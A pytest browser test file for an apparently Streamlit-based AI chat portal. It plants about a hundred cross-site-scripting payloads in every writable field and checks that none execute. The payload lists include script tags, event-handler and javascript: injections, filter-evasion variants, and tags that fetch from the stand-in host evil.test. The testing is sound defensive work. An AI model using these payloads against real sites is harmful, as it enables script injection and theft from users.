"""A hundred texts that run a script or call another server if a page treats them as HTML, in everything that people and models write. The
console, whose errors fail every test here, also shows attempts that only the content security policy stopped.
"""

from __future__ import annotations

import contextlib
import itertools
import time
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest
from playwright.sync_api import Browser, Error, Page, expect

from bench.portal_parts.portal import PASSWORD, Measured, running_portal
from bootstrap.portal import Portal, build_portal
from core.chat.turns import TurnOptions
from core.documents.records import DocumentState
from core.experiments.records import Design
from core.inference.offers import Preset
from core.inference.records import FinishReason, Timings, Usage
from core.inference.requests import Delta, Finished
from core.people.records import Role, User
from core.usage.alerts.rule_records import AlertRule, Measure
from core.usage.reporting.records import ReportPlan
from core.workflows.records import RunState, Step, StepKind
from samples.chromium import open_page, show_earlier_messages
from samples.fakes import FakePool, FakeRouter, answer
from settings import Settings
from tests.browser.conftest import Person
from tests.browser.settled import settle

BAD = "window.bad=1"
ELSEWHERE = "//evil.test/x"
TAGS = [
    "<script>{bad}</script>", "<script src={elsewhere}></script>", "<SCRIPT>{bad}</SCRIPT>", "<scr<script>ipt>{bad}</scr</script>ipt>",
    "<script/x>{bad}</script>", "<script\n>{bad}</script\n>", "\"><script>{bad}</script>", "'><script>{bad}</script>",
    "</textarea><script>{bad}</script>", "</title><script>{bad}</script>", "--><script>{bad}</script>", "]]><script>{bad}</script>",
    "<img src=x onerror={bad}>", "<img src=x onerror=\"{bad}\">", "<IMG SRC=x OnErRoR={bad}>", "<img/src=x/onerror={bad}>",
    "<img src={elsewhere}>", "<img srcset={elsewhere}>", "\"><img src=x onerror={bad}>", "<img src=x:x onerror={bad}//",
    "<svg onload={bad}>", "<svg/onload={bad}>", "<svg><script>{bad}</script></svg>",
    "<svg><animate onbegin={bad} attributeName=x dur=1s>", "<svg><set onbegin={bad} attributeName=x>", "<svg><use href={elsewhere}#x>",
    "<svg><image href={elsewhere}>", "<svg><a xlink:href=javascript:{bad}><text y=20>x</text></a></svg>",
    "<svg><foreignObject><script>{bad}</script></foreignObject></svg>", "<body onload={bad}>", "<body onpageshow={bad}>",
    "<iframe src={elsewhere}></iframe>", "<iframe srcdoc='<script>parent.{bad}</script>'>", "<iframe src=javascript:{bad}></iframe>",
    "<iframe onload={bad}></iframe>", "<object data={elsewhere}></object>", "<object data=javascript:{bad}>", "<embed src={elsewhere}>",
    "<embed src=javascript:{bad}>", "<link rel=stylesheet href={elsewhere}>", "<link rel=prefetch href={elsewhere}>",
    "<style>@import '{elsewhere}'</style>", "<style>*{{background:url({elsewhere})}}</style>",
    "<div style=\"background:url({elsewhere})\">x</div>", "<base href={elsewhere}/>",
    "<meta http-equiv=refresh content='0;url={elsewhere}'>",
    "<form action={elsewhere}><button autofocus onfocus={bad}>x</button></form>", "<input autofocus onfocus={bad}>",
    "<input type=image src={elsewhere}>", "<select autofocus onfocus={bad}>", "<textarea autofocus onfocus={bad}>",
    "<video src={elsewhere} autoplay>", "<video><source onerror={bad}></video>", "<video poster={elsewhere}></video>",
    "<audio src=x onerror={bad}>", "<audio src={elsewhere} autoplay>", "<track src={elsewhere} default>",
    "<details open ontoggle={bad}>", "<marquee onstart={bad}>x</marquee>", "<dialog open onclose={bad}>",
    "<a href=javascript:{bad} autofocus onfocus={bad}>x</a>", "<math><mtext><table><mglyph><style><img src=x onerror={bad}>",
    "<noscript><p title=\"</noscript><img src=x onerror={bad}>\">", "<template><script>{bad}</script></template>",
    "<div onmouseover={bad} style='position:fixed;inset:0'>x</div>", "<x contenteditable autofocus onfocus={bad}>x",
    "<p onanimationstart={bad} style=animation-name:x>x", "<isindex action={elsewhere}>", "<table background={elsewhere}><td>x</table>",
    "<xmp><img src=x onerror={bad}></xmp>", "<plaintext><script>{bad}</script>",
]  # fmt: skip
"""As HTML. {bad}: a script that leaves a mark; {elsewhere}: an address of another server."""
MARKDOWN = [
    "[click](javascript:{bad})", "[click](JaVaScRiPt:{bad})", "[click](java\nscript:{bad})",
    "[click](data:text/html,<script>{bad}</script>)", "[click](vbscript:{bad})", "![x](javascript:{bad})", "![x](https:{elsewhere})",
    "![x]({elsewhere})", "![x](data:image/svg+xml,<svg onload={bad}>)", "![x](x\" onerror=\"{bad})", "[x](x 'onmouseover={bad}')",
    "[x]: javascript:{bad}\n\n[x]", "<javascript:{bad}>", "<https:{elsewhere}>", "`<script>{bad}</script>`",
    "```html\n<script>{bad}</script>\n```", "```<img src=x onerror={bad}>\ncode\n```", "~~~ \"onload={bad}\nx\n~~~",
    "| <script>{bad}</script> | x |\n|--|--|\n| <img src=x onerror={bad}> | y |", "# <img src=x onerror={bad}>", "> <svg onload={bad}>",
    "1. <iframe src={elsewhere}>", "$\\href{{javascript:{bad}}}{{x}}$", "$\\includegraphics{{{elsewhere}}}$",
    "$$\\url{{javascript:{bad}}}$$", "$\\htmlData{{onload={bad}}}{{x}}$", ":red[<img src=x onerror={bad}>]",
    ":material/<script>{bad}</script>:", "&lt;script&gt;{bad}&lt;/script&gt;", "&#60;img src=x onerror={bad}&#62;",
    "\\<img src=x onerror={bad}\\>", "<!-- <script>{bad}</script> -->", "[^1]\n\n[^1]: <img src=x onerror={bad}>",
]  # fmt: skip
"""As Markdown, formulas and Streamlit's own marks."""
PIECES = [each.format(bad=BAD, elsewhere=ELSEWHERE) for each in (*TAGS, *MARKDOWN)]
WAIT_S = 60.0
A_CHAT = 26
"""Pieces in one chat."""


def test_there_are_at_least_a_hundred() -> None:
    assert len(set(PIECES)) >= 100


def test_most_of_them_run_where_text_is_taken_for_html(chromium: Browser) -> None:
    page = chromium.new_page()
    acted: set[str] = set()
    pieces = [each.format(bad=BAD, elsewhere=f"https:{ELSEWHERE}") for each in TAGS]
    # Again with more time for those that did nothing, where the machine is so busy that most did nothing.
    for piece, tries in [*((each, 8) for each in pieces), *((each, 100) for each in pieces)]:
        if piece in acted or (tries > 8 and len(acted) > len(TAGS) / 2):
            continue
        page.unroute_all()
        page.route("https://evil.test/**", lambda route, piece=piece: (acted.add(piece), route.abort()))
        page.set_content(f"<p>{piece}</p>", wait_until="commit")
        for _ in range(tries):
            page.wait_for_timeout(20)
            with contextlib.suppress(Error):  # some pieces send the page elsewhere
                if page.evaluate("window.bad"):
                    acted.add(piece)
            if piece in acted:
                break
        page.goto("about:blank")
    page.close()
    assert len(acted) > len(TAGS) / 2, set(TAGS) - acted


@pytest.fixture(scope="module")
def portal(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Measured]:
    """Everything that can be written holds one of the pieces: questions, answers, reasoning, names, titles, comments, notes."""
    home = tmp_path_factory.mktemp("home")
    router = FakeRouter()
    built = build_portal(Settings(home=home, model_titles=False), pool=FakePool(), router=router)
    _write(built, router)
    built.close()
    with running_portal(home, start_s=180) as running:
        yield running


def _write(portal: Portal, router: FakeRouter) -> None:
    left = itertools.cycle(PIECES)
    portal.accounts.add(None, "mei", Role.ADMIN, password=PASSWORD)
    mei = portal.accounts.credentials("mei")
    assert mei is not None
    for number in range(12):
        portal.accounts.add(mei.user, f"person{number}", Role.ANALYST, password=PASSWORD, full_name=next(left)[:100], group=next(left)[:60])
    for start in range(0, len(PIECES), A_CHAT):
        chat = portal.conversations.new(mei.user).id
        for piece in PIECES[start : start + A_CHAT]:
            end = Finished(FinishReason.STOP, Usage(5, 1, 0), Timings(0.0, 0.1, 0.2))
            router.next_answers.put([Delta(reasoning=piece, tokens=1), Delta(f"{piece}\n\nin words: {piece} and more", tokens=2), end])
            turn = portal.turns.start(mei.user, chat, piece, TurnOptions(), f"piece-{PIECES.index(piece)}")
            while (running := portal.turns.find(mei.user, turn.id)) is not None:
                running.wait_finished(5)
        folder = portal.folders.new(mei.user, " ".join(next(left).split())[:60])
        portal.conversations.move(mei.user, chat, folder.id)
        portal.conversations.rename(mei.user, chat, " ".join(next(left).split())[:100])
        for shown in portal.conversations.transcript(mei.user, chat)[1::2]:
            portal.feedback.rate(mei.user, shown.message.id, -1, next(left))


    _write_names(portal, mei.user, left)
    _write_results(portal, router, mei.user)


def _write_names(portal: Portal, mei: User, left: Iterator[str]) -> None:
    """Give one piece each to what people name: prompts, memories, collections, presets, experiments, alert rules and reports."""
    now = datetime.now(UTC)

    def name(most: int) -> str:
        return " ".join(next(left).split())[:most]

    for number in range(8):
        portal.prompts.add(mei, name(80), next(left))
        portal.memories.add(mei, next(left))
        portal.alert_rules.add(mei, AlertRule(name=f"{number} {name(70)}", measure=Measure.ERRORS, threshold=5))
        portal.report_plans.add(mei, ReportPlan(name=f"{number} {name(70)}", cards=("overview.figures",)))
        words = {"title": name(70), "description": name(200), "system_prompt": next(left)}
        portal.presets.save(mei, Preset(name=f"preset{number}", model="fake", created_at=now, updated_at=now, published=True, **words))
    portal.experiments.start(mei, Design(name=name(70), question=name(70), subject="fake", other="preset0"))


def _write_results(portal: Portal, router: FakeRouter, mei: User) -> None:
    """Write all pieces into a document that is cited, and into what a task reads, queries and writes."""
    text, steps = "\n\n".join(PIECES), []
    collection = portal.collections.add(mei, PIECES[0][:80]).id
    document = portal.documents.add(mei, collection, "pieces.txt", text.encode()).id
    file = portal.files.upload(mei, "pieces.txt", text.encode()).id
    rows = "piece,number\n" + "".join(f'"{each.replace(chr(34), chr(34) * 2)}",{at}\n' for at, each in enumerate(PIECES))
    table = portal.files.upload(mei, "rows.csv", rows.encode()).id
    for at, (kind, asked, inputs) in enumerate([
        (StepKind.READ, "", ("file1",)), (StepKind.QUERY, 'SELECT * FROM "rows"', ("file2",)),
        *((StepKind.WRITE, each, ("s1",)) for each in PIECES[:4]), (StepKind.ASK, PIECES[0], ()),
    ]):  # fmt: skip
        steps.append(Step(id=f"s{at + 1}", kind=kind, title=" ".join(PIECES[at].split())[:80], inputs=inputs, text=asked))
    for first in range(4):
        router.next_answers.put(answer("\n\n".join(PIECES[first::4])))
    task = portal.workflow_tasks.add(mei, PIECES[1], [file, table], steps=steps, title=PIECES[2][:80])
    run = portal.workflow_runs.start(mei, task.id, task.version)
    deadline = time.monotonic() + WAIT_S
    while (
        portal.workflow_runs.get(mei, run.id)[0].state is not RunState.ASKING
        or portal.documents.get(mei, document).state is not DocumentState.READY
    ):
        assert time.monotonic() < deadline, portal.workflow_runs.get(mei, run.id)
        time.sleep(0.02)


def _expect_nothing_ran(page: Page) -> None:
    page.wait_for_timeout(300)
    assert page.evaluate("window.bad") is None
    assert page.locator("[onerror], [onload], [onfocus], [onbegin], [ontoggle], a[href^='javascript:' i]").count() == 0


def test_nothing_runs_on_any_page(person: Person, portal: Measured) -> None:
    page = person.open("mei")
    with portal.sign_in("mei") as client:
        ids = [each["id"] for each in client.get("/api/v1/conversations").json()["items"]]
    assert len(ids) == -(-len(PIECES) // A_CHAT)
    for conversation_id in ids:
        page.goto(f"{portal.url}/?c={conversation_id}")
        show_earlier_messages(page, page.get_by_text("in words:"), A_CHAT // 2 + 1)
        for thought in page.get_by_test_id("stExpander").all()[:3]:
            thought.click()
        _expect_nothing_ran(page)
    with portal.sign_in("mei") as client:
        lists = ((name, client.get(f"/api/v1/{name}").json()["items"][0]) for name in ("tasks", "experiments"))
        of_one = [f"{name}?{name[:-1]}={each.get('experiment', each)['id']}" for name, each in lists]
        of_one.append(f"documents?collection={client.get('/api/v1/collections').json()['items'][0]['id']}")
    for path in of_one:
        page.goto(f"{portal.url}/{path}")
        expect(page.get_by_test_id("stMain")).to_contain_text("bad=1", timeout=60_000)
        settle(page)
        _expect_nothing_ran(page)
    names = ("Tasks", "Documents", "Prompts", "Presets", "Experiments", "Alerts", "Reports", "Logs")
    for name in (*names, "Cases", "Usage", "Models", "People", "Access", "Jobs", "Audit", "Search"):
        open_page(page, name)
        page.get_by_test_id("stMain").get_by_role("button").first.wait_for()
        settle(page)
        if name == "Search":
            field = page.get_by_role("combobox", name="Search chats")
            field.fill("words script onerror")
            field.press("Enter")
            page.locator(".stMain mark").first.wait_for()
            settle(page)
        _expect_nothing_ran(page)
